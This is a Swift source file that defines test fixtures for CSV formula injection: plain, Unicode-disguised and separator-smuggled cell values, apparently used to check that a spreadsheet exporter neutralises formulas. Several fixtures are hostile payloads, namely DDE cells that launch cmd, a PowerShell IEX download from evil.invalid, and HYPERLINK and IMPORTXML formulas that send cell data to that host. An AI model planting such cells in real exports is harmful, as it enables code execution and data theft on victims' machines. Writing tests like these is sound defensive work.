/// Cells that some spreadsheet would calculate, or run, if they reached it as they are.
package enum FormulaPayloads {
    package static let all = plain + disguised + behindSeparators

    /// Begin with what begins a formula.
    package static let plain = [
        "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget evil.invalid/x)'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "=HYPERLINK(\"http://evil.invalid?x=\"&A1;\"Klick\")",
        "=IMPORTXML(CONCAT(\"http://evil.invalid/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://e.invalid\")",
        "=SUMME(A1:A9)", "=A1", "=", "==1", "=-1", "=@SUM(1)", "={1;2}", "='a'!A1",
        "+1+1", "+cmd|' /C calc'!A0", "+49 221 4710001", "+492214710001", "+", "+-1", "+A1",
        "+49-221-4710", "-1+1", "-2+3+cmd|' /C calc'!A0", "-", "-A1", "--1", "-(1)", "- 1",
        "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "@", "@SUM(A1)", "@evil", "=1+1;=2+2",
    ]

    /// The same behind what readers drop, or in other forms.
    package static let disguised = [
        " =1+1", "   +1", "\t=1+1", "\t\t@SUM(1)", "\r=1+1", "\n=1+1", "\r\n-1", "\u{0}=1+1",
        "\u{0}\u{1}+1", "\u{A0}=1+1", "\u{3000}=1+1", "\u{2003}@A1", "\u{FEFF}=1+1",
        "\u{200B}=1+1", "\u{200D}=1+1", "\u{202E}=1+1", "\u{AD}=1+1", "\u{2028}=1+1",
        "\u{FF1D}1+1", "\u{FF0B}49 221", "\u{FF0D}1", "\u{FF20}SUM(1)", " \u{FF1D}A1",
        "\u{FE66}A1", "\u{FE63}1", "\u{2212}1", "\u{7F}=1", "\u{85}=1", "\u{1B}=1", "\u{C}=1",
        "=\u{301}1+1", "\"=1+1\"", "\"\"=1+1", "\"\n=1+1", "\" \"+1",
    ]

    /// Begin a cell of their own if the file is divided elsewhere, or a quote ends one.
    package static let behindSeparators = [
        "a;=1+1", "a,=1+1", "a\t=1+1", "a|=1+1", "a\";=1+1", "a\",\"=1+1", "a\r\n=1+1", "a\n+1",
        "a\";\"@A1\";\"", "a, -1", "a;\"=1+1\"", "a,\u{FF1D}1", "a,\u{200B}=1", ";=1", ",+1",
        "\";=1+1;\"", "\"\r\n=1+1", "a\u{2028}=1+1", "a,\"\"=1", "a;\t@A1",
    ]
}
